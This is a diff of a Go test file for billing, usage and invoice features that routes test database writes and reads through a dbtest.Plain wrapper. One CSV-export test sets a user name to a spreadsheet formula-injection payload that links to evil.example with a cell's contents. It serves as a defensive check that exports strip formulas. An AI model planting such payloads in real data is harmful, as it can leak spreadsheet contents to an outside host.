@@ -44,7 +44,7 @@ func insertUsage(tb testing.TB, db *gorm.DB, rows ...usageRow) {
 			sb.WriteString("(?, ?, ?, ?, ?, ?)")
 			args = append(args, r.account, r.day.UTC().Format(time.DateOnly), r.user, r.metric, r.category, r.quantity)
 		}
-		if err := db.Exec(sb.String(), args...).Error; err != nil {
+		if err := dbtest.Plain(tb, db).Exec(sb.String(), args...).Error; err != nil {
 			tb.Fatalf("insert usage: %v", err)
 		}
 	}
@@ -306,7 +306,7 @@ func TestCSVExportsCannotCarryFormulas(t *testing.T) {
 		f := newUsageOrg(t, db)
 		names := map[int64]string{f.admin.ID: `=HYPERLINK("https://evil.example/?"&A1,"Open")`, f.member.ID: "+1-555-0100"}
 		for id, name := range names {
-			if err := db.Exec("UPDATE users SET name = ? WHERE id = ?", name, id).Error; err != nil {
+			if err := dbtest.Plain(t, db).Exec("UPDATE users SET name = ? WHERE id = ?", name, id).Error; err != nil {
 				t.Fatal(err)
 			}
 		}
@@ -393,7 +393,7 @@ func TestBillingPageOnEnterprise(t *testing.T) {
 	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
 		f := newUsageOrg(t, db)
 		stale := f.ac.guard("/settings/billing") // a tab opened while on Free
-		if err := db.Exec("UPDATE accounts SET plan = ? WHERE id = ?", models.PlanEnterprise, f.org.AccountID()).Error; err != nil {
+		if err := dbtest.Plain(t, db).Exec("UPDATE accounts SET plan = ? WHERE id = ?", models.PlanEnterprise, f.org.AccountID()).Error; err != nil {
 			t.Fatal(err)
 		}
 		r := f.ac.get("/settings/billing").status(http.StatusOK)
@@ -436,7 +436,7 @@ func TestInvoiceHistoryIsPaginated(t *testing.T) {
 		first := models.MonthOf(time.Now()).Prev()
 		m := first
 		for i := range n {
-			if err := db.Exec(`INSERT INTO invoices (public_id, account_id, number, period, currency, total_minor, status, bill_to, created_at)
+			if err := dbtest.Plain(t, db).Exec(`INSERT INTO invoices (public_id, account_id, number, period, currency, total_minor, status, bill_to, created_at)
 				VALUES (?, ?, ?, ?, 'USD', 100, 'issued', 'Acme', ?)`,
 				fmt.Sprintf("%024d", i+1), f.org.AccountID(), "SB-TEST-"+m.String(), m.String(), m.End()).Error; err != nil {
 				t.Fatal(err)
@@ -466,7 +466,7 @@ func dumpTables(t testing.TB, db *gorm.DB, tables ...string) string {
 	var sb strings.Builder
 	for _, table := range tables {
 		var rows []map[string]any
-		if err := db.Raw("SELECT * FROM " + table).Scan(&rows).Error; err != nil {
+		if err := dbtest.Plain(t, db).Raw("SELECT * FROM " + table).Scan(&rows).Error; err != nil {
 			t.Fatal(err)
 		}
 		fmt.Fprintf(&sb, "%s: %v\n", table, rows)
@@ -477,7 +477,7 @@ func dumpTables(t testing.TB, db *gorm.DB, tables ...string) string {
 func accountPlan(t testing.TB, db *gorm.DB, id int64) models.Plan {
 	t.Helper()
 	var p models.Plan
-	if err := db.Raw("SELECT plan FROM accounts WHERE id = ?", id).Scan(&p).Error; err != nil {
+	if err := dbtest.Plain(t, db).Raw("SELECT plan FROM accounts WHERE id = ?", id).Scan(&p).Error; err != nil {
 		t.Fatal(err)
 	}
 	return p
@@ -623,11 +623,11 @@ func TestBillingEnterpriseForm(t *testing.T) {
 func closedInvoice(t *testing.T, db *gorm.DB, f usageOrg) (string, models.Month) {
 	t.Helper()
 	last := models.MonthOf(time.Now()).Prev()
-	if err := db.Exec("UPDATE accounts SET plan = ?, created_at = ? WHERE id = ?", models.PlanDeveloper, last.Start().AddDate(0, -2, 0), f.org.AccountID()).Error; err != nil {
+	if err := dbtest.Plain(t, db).Exec("UPDATE accounts SET plan = ?, created_at = ? WHERE id = ?", models.PlanDeveloper, last.Start().AddDate(0, -2, 0), f.org.AccountID()).Error; err != nil {
 		t.Fatal(err)
 	}
 	// Only these rows in the month (newUsageOrg's may fall in it too).
-	if err := db.Exec("DELETE FROM usage_daily WHERE account_id = ? AND day >= ? AND day < ?", f.org.AccountID(),
+	if err := dbtest.Plain(t, db).Exec("DELETE FROM usage_daily WHERE account_id = ? AND day >= ? AND day < ?", f.org.AccountID(),
 		last.Start().Format(time.DateOnly), last.End().Format(time.DateOnly)).Error; err != nil {
 		t.Fatal(err)
 	}
@@ -643,7 +643,7 @@ func closedInvoice(t *testing.T, db *gorm.DB, f usageOrg) (string, models.Month)
 		t.Fatal(err)
 	}
 	var id string
-	if err := db.Raw("SELECT public_id FROM invoices WHERE account_id = ? AND period = ?", f.org.AccountID(), last.String()).Scan(&id).Error; err != nil || id == "" {
+	if err := dbtest.Plain(t, db).Raw("SELECT public_id FROM invoices WHERE account_id = ? AND period = ?", f.org.AccountID(), last.String()).Scan(&id).Error; err != nil || id == "" {
 		t.Fatalf("no invoice for %s: %v", last, err)
 	}
 	return id, last
@@ -654,7 +654,7 @@ func TestInvoicePages(t *testing.T) {
 		f := newUsageOrg(t, db)
 		id, last := closedInvoice(t, db, f)
 		var inv models.Invoice
-		if err := db.Raw("SELECT * FROM invoices WHERE public_id = ?", id).Scan(&inv).Error; err != nil {
+		if err := dbtest.Plain(t, db).Raw("SELECT * FROM invoices WHERE public_id = ?", id).Scan(&inv).Error; err != nil {
 			t.Fatal(err)
 		}
 		nLines := countRows(t, db, "invoice_lines", "invoice_id = ?", inv.ID)
